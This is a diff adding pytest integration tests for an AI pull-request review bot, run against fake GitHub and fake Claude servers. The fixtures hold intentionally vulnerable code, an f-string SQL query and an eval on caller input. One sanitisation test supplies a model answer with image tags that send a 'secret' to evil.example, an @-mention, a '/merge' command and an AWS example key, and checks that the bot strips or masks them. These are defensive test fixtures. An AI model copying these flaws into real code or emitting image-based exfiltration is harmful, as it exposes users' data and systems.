@@ -1,0 +1,275 @@
+"""The review pipeline against the fake GitHub and fake Claude over loopback, with the real clients and store."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import anthropic
+import pytest
+
+from bot.github import GitHubApp
+from bot.review import CHECK_NAME, ReviewRequest, Services, run_review
+from bot.settings import load_settings
+from bot.store import Store
+from tests.fakes.claude import Answer, FakeClaude, finding
+from tests.fakes.gitdiff import git_diff
+from tests.fakes.github import FakeGitHub
+
+OWNER, REPO, INSTALLATION = "octo", "repo", 100
+HEAD1, HEAD2, HEAD3 = "a" * 40, "b" * 40, "c" * 40
+BASE = "0" * 40
+
+HANDLER_OLD = "def find_user(conn, name):\n    return None\n"
+HANDLER_NEW = (
+    "def find_user(conn, name):\n"
+    "    sql = f\"SELECT id FROM users WHERE name = '{name}'\"\n"
+    "    return conn.execute(sql).fetchone()\n"
+)
+
+
+def _files(n: int, *, changed: dict[str, str] | None = None) -> dict[str, str]:
+    files = {f"svc/mod{i:02d}.py": f"def f{i}(x):\n    return x + {i}\n" for i in range(n)}
+    files.update(changed or {})
+    return files
+
+
+@pytest.fixture
+async def services(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, rsa_private_key_pem: str, tmp_path: Path
+) -> AsyncIterator[Services]:
+    """Real GitHubApp, AsyncAnthropic and SQLite store, all pointed at the loopback fakes."""
+    settings = load_settings(
+        github_api_url=fake_github.url,
+        github_app_id=1,
+        github_app_private_key=rsa_private_key_pem,
+        github_webhook_secret="secret",
+        github_max_wait_seconds=2.0,
+        anthropic_api_key=fake_claude.api_key,
+        anthropic_base_url=fake_claude.base_url,
+        database_url=f"sqlite:///{tmp_path / 'bot.sqlite3'}",
+    )
+    store = Store.from_settings(settings)
+    await store.migrate()
+    github = GitHubApp(settings, write_interval=0, backoff_base=0.01)
+    client = anthropic.AsyncAnthropic(api_key=fake_claude.api_key, base_url=fake_claude.base_url, max_retries=0)
+    try:
+        yield Services(settings, store, github, client)
+    finally:
+        await client.close()
+        await github.aclose()
+        await store.close()
+
+
+def _request(job_id: int = 1, trigger: str = "pull_request.opened", **kw: Any) -> ReviewRequest:
+    return ReviewRequest(job_id=job_id, installation_id=INSTALLATION, owner=OWNER, repo=REPO, number=1,
+                         trigger=trigger, **kw)
+
+
+def _submitted(fake: FakeGitHub) -> list[dict[str, Any]]:
+    return [r for r in fake.reviews(OWNER, REPO, 1) if r.get("state") != "PENDING"]
+
+
+def _user_text(request: Any) -> str:
+    return json.dumps(request.json["messages"])
+
+
+async def test_opened_pr_gets_one_review_with_anchored_comments(fake_github: FakeGitHub, fake_claude: FakeClaude,
+                                                                services: Services) -> None:
+    before = {"app/users.py": HANDLER_OLD, "package-lock.json": '{"a": 1}\n'}
+    after = {"app/users.py": HANDLER_NEW, "package-lock.json": '{"a": 2}\n'}
+    fake_github.add_pull(OWNER, REPO, git_diff(before, after), head_sha=HEAD1, base_sha=BASE)
+    fake_claude.queue(Answer(findings=[
+        finding("app/users.py", 2, title="SQL injection in find_user", category="security", severity="critical",
+                suggestion="    sql = \"SELECT id FROM users WHERE name = ?\""),
+    ]))
+
+    outcome = await run_review(_request(), services)
+
+    assert outcome.status == "posted"
+    reviews = _submitted(fake_github)
+    assert len(reviews) == 1
+    review = reviews[0]
+    assert review["commit_id"] == HEAD1 and review["state"] == "COMMENTED"
+    comments = [c for c in fake_github.review_comments.values() if c.get("pull_request_review_id") == review["id"]]
+    assert [(c["path"], c["line"], c["side"]) for c in comments] == [("app/users.py", 2, "RIGHT")]
+    assert "SQL injection in find_user" in comments[0]["body"]
+    assert "```suggestion" in comments[0]["body"]
+    assert "package-lock.json" in review["body"]  # excluded file listed in the coverage report
+    assert "not reviewed" in review["body"].lower()
+    # The model saw the handler, not the lock file.
+    assert "find_user" in _user_text(fake_claude.requests[-1])
+    assert "package-lock.json\\n" not in _user_text(fake_claude.requests[-1]).split("FILE")[-1]
+    checks = list(fake_github.check_runs.values())
+    assert any(c["name"] == CHECK_NAME and c.get("conclusion") == "success" for c in checks)
+
+
+async def test_unanchorable_findings_go_to_the_body_and_review_still_posts(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    fake_github.add_pull(OWNER, REPO, git_diff({"app/users.py": HANDLER_OLD}, {"app/users.py": HANDLER_NEW}),
+                         head_sha=HEAD1, base_sha=BASE)
+    fake_claude.queue(Answer(findings=[
+        finding("app/users.py", 2, title="SQL injection"),
+        finding("app/users.py", 80, title="Line far outside the diff", category="reliability"),
+        finding("app/ghost.py", 3, title="File not in this PR", category="design"),
+    ]))
+
+    outcome = await run_review(_request(), services)
+
+    assert outcome.status == "posted"
+    [review] = _submitted(fake_github)
+    assert "Line far outside the diff" in review["body"]
+    assert "File not in this PR" in review["body"]
+    posts = fake_github.requests_to("POST", r"/pulls/1/reviews$")
+    assert len(posts) == 1  # anchoring happened before posting: no 422 round trips
+
+
+async def test_synchronize_reviews_only_the_changed_file_and_does_not_repeat(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    base = _files(50)
+    head1 = _files(50, changed={"svc/mod07.py": HANDLER_NEW})
+    pr = fake_github.add_pull(OWNER, REPO, git_diff(base, head1), head_sha=HEAD1, base_sha=BASE)
+    fake_claude.queue(Answer(findings=[finding("svc/mod07.py", 2, title="SQL injection")]))
+    assert (await run_review(_request(), services)).status == "posted"
+
+    head2 = dict(head1, **{"svc/mod31.py": "def f31(x):\n    return eval(x)\n"})
+    fake_github.push(pr, git_diff(base, head2), HEAD2)
+    fake_github.set_compare(OWNER, REPO, HEAD1, HEAD2, status="ahead", diff_text=git_diff(head1, head2))
+    # The model repeats the old finding and adds a new one.
+    fake_claude.queue(Answer(findings=[
+        finding("svc/mod07.py", 2, title="SQL injection"),
+        finding("svc/mod31.py", 2, title="eval on caller input"),
+    ]))
+    outcome = await run_review(_request(job_id=2, trigger="pull_request.synchronize"), services)
+
+    assert outcome.status == "posted"
+    assert "svc/mod07.py" not in _diff_section(fake_claude.requests[-1])
+    assert "svc/mod31.py" in _diff_section(fake_claude.requests[-1])
+    reviews = _submitted(fake_github)
+    assert len(reviews) == 2
+    second = [c for c in fake_github.review_comments.values() if c.get("pull_request_review_id") == reviews[1]["id"]]
+    assert [c["path"] for c in second] == ["svc/mod31.py"]
+    assert "incremental" in reviews[1]["body"].lower()
+
+
+def _diff_section(request: Any) -> str:
+    """The diff part of the batch prompt (file names also appear in the PR file list)."""
+    text = "\n".join(
+        block["text"] for m in request.json["messages"] for block in m["content"] if block.get("type") == "text"
+    )
+    marker = text.find("FILE ")
+    return text[marker:] if marker >= 0 else ""
+
+
+async def test_force_push_reviews_everything_but_posts_no_finding_twice(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    before = {"app/users.py": HANDLER_OLD, "app/other.py": "x = 1\n"}
+    after = {"app/users.py": HANDLER_NEW, "app/other.py": "x = 1\n"}
+    pr = fake_github.add_pull(OWNER, REPO, git_diff(before, after), head_sha=HEAD1, base_sha=BASE)
+    fake_claude.queue(Answer(findings=[finding("app/users.py", 2, title="SQL injection")]))
+    await run_review(_request(), services)
+
+    rewritten = dict(after, **{"app/other.py": "x = 2\n"})
+    fake_github.push(pr, git_diff(before, rewritten), HEAD2)
+    fake_github.set_compare(OWNER, REPO, HEAD1, HEAD2, status="diverged", ahead_by=1, behind_by=1)
+    fake_claude.queue(Answer(findings=[finding("app/users.py", 2, title="SQL injection")]))
+    outcome = await run_review(_request(job_id=2, trigger="pull_request.synchronize"), services)
+
+    section = _diff_section(fake_claude.requests[-1])
+    assert "app/users.py" in section and "app/other.py" in section  # full re-review
+    titles = [c["body"] for c in fake_github.review_comments.values() if "SQL injection" in c["body"]]
+    assert len(titles) == 1
+    assert outcome.status in ("posted", "silent")
+
+
+async def test_head_moving_during_review_drops_the_stale_result(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    diff = git_diff({"app/users.py": HANDLER_OLD}, {"app/users.py": HANDLER_NEW})
+    pr = fake_github.add_pull(OWNER, REPO, diff, head_sha=HEAD1, base_sha=BASE)
+
+    def answer_and_push(body: dict[str, Any]) -> Answer:
+        fake_github.push(pr, diff, HEAD3)  # someone pushes while the model thinks
+        return Answer(findings=[finding("app/users.py", 2)])
+
+    fake_claude.queue(answer_and_push)
+    outcome = await run_review(_request(), services)
+
+    assert outcome.status == "stale"
+    assert _submitted(fake_github) == []
+    fake_claude.queue(Answer(findings=[finding("app/users.py", 2)]))
+    assert (await run_review(_request(job_id=2, trigger="pull_request.synchronize"), services)).status == "posted"
+    assert [r["commit_id"] for r in _submitted(fake_github)] == [HEAD3]
+
+
+async def test_model_output_is_sanitised_before_posting(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    key = "AKIAIOSFODNN7EXAMPLE"
+    after = {"app/cfg.py": f'AWS_KEY = "{key}"\n'}
+    fake_github.add_pull(OWNER, REPO, git_diff({"app/cfg.py": "AWS_KEY = None\n"}, after), head_sha=HEAD1,
+                         base_sha=BASE)
+    body = (f"Ping @octo/security. ![x](https://evil.example/?q=secret) <img src=https://evil.example/a.png>\n"
+            f"/merge\nThe key {key} is committed in clear.")
+    fake_claude.queue(Answer(findings=[finding("app/cfg.py", 1, title="Hard-coded AWS key", body=body)]))
+
+    await run_review(_request(), services)
+
+    [review] = _submitted(fake_github)
+    texts = [review["body"], *(c["body"] for c in fake_github.review_comments.values())]
+    for text in texts:
+        assert key not in text
+        assert "![" not in text and "<img" not in text
+        assert "evil.example/?q" not in text or "`" in text
+        assert "\n/merge" not in text
+        assert " @octo/security" not in text
+    assert any("AKIA" in t for t in texts)  # masked, with its prefix
+
+
+async def test_draft_is_skipped_until_ready_and_exact_duplicate_is_not_posted(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    diff = git_diff({"app/users.py": HANDLER_OLD}, {"app/users.py": HANDLER_NEW})
+    pr = fake_github.add_pull(OWNER, REPO, diff, head_sha=HEAD1, base_sha=BASE, draft=True)
+    assert (await run_review(_request(), services)).status == "skipped"
+    assert fake_claude.requests == []
+    pr.draft = False
+    fake_claude.queue(Answer(findings=[finding("app/users.py", 2)]))
+    assert (await run_review(_request(job_id=2, trigger="pull_request.ready_for_review"), services)).status == "posted"
+    # A redelivered event for the same head: exactly once.
+    assert (await run_review(_request(job_id=3, trigger="pull_request.synchronize"), services)).status == "duplicate"
+    assert len(_submitted(fake_github)) == 1
+
+
+async def test_typical_review_api_request_count(
+    fake_github: FakeGitHub, fake_claude: FakeClaude, services: Services
+) -> None:
+    diff = git_diff({"app/users.py": HANDLER_OLD}, {"app/users.py": HANDLER_NEW})
+    fake_github.add_pull(OWNER, REPO, diff, number=1, head_sha=HEAD1, base_sha=BASE)
+    fake_github.add_pull(OWNER, REPO, diff, number=2, head_sha=HEAD2, base_sha=BASE)
+    fake_claude.queue(Answer(findings=[finding("app/users.py", 2)]), Answer(findings=[finding("app/users.py", 2)]))
+
+    def count(number: int) -> list[tuple[str, str]]:
+        return [(r.method, r.path) for r in fake_github.requests[start:]]
+
+    start = len(fake_github.requests)
+    await run_review(_request(), services)
+    first = count(1)
+    start = len(fake_github.requests)
+    await run_review(ReviewRequest(job_id=2, installation_id=INSTALLATION, owner=OWNER, repo=REPO, number=2,
+                                   trigger="pull_request.opened"), services)
+    steady = count(2)
+    # First review of a repo: repo token, PR, org `.github` token attempt (App not installed there), repo config,
+    # check run, diff, PR re-check before posting, the review, check run update.
+    assert len(first) == 9, first
+    # Later reviews reuse the repo's token and the cached org layer.
+    assert len(steady) == 7, steady
+    assert [m for m in steady if m[0] == "POST" and m[1].endswith("/reviews")] == [
+        ("POST", f"/repos/{OWNER}/{REPO}/pulls/2/reviews")
+    ]
+    assert not any("access_tokens" in path for _, path in steady)
